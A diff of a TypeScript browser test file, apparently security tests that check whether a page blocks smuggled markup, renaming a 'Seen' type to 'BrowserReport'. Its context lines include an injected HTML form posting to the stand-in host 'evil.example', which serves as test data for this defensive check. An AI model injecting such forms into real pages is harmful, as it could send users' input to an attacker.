@@ -43,12 +43,12 @@ const smuggled = [
   '<form action="https://evil.example/"><input name="a"></form>',
 ].join('')
 
-type Seen = { complaints: string[]; asked: URL[]; referrers: (string | undefined)[] }
+type BrowserReport = { complaints: string[]; asked: URL[]; referrers: (string | undefined)[] }
 
 /** Opens a page in which every host but `ours` is the stand-in; `seen` says what the browser complains of. */
-async function open(browser: Browser, ours: string[]): Promise<{ page: Page; seen: Seen }> {
+async function open(browser: Browser, ours: string[]): Promise<{ page: Page; seen: BrowserReport }> {
   const page = await browser.newPage()
-  const seen: Seen = { complaints: [], asked: [], referrers: [] }
+  const seen: BrowserReport = { complaints: [], asked: [], referrers: [] }
   page.on('console', (message) => seen.complaints.push(message.text()))
   page.on('pageerror', (error) => seen.complaints.push(error.message))
   await page.exposeFunction('violated', (what: string) => seen.complaints.push(what))
@@ -100,7 +100,7 @@ export const player: InBrowser = (chromium) => {
   let service: TestService
   let theirs: StandIn
   let page: Page
-  let seen: Seen
+  let seen: BrowserReport
 
   before(async () => {
     service = await startService({ running: false })
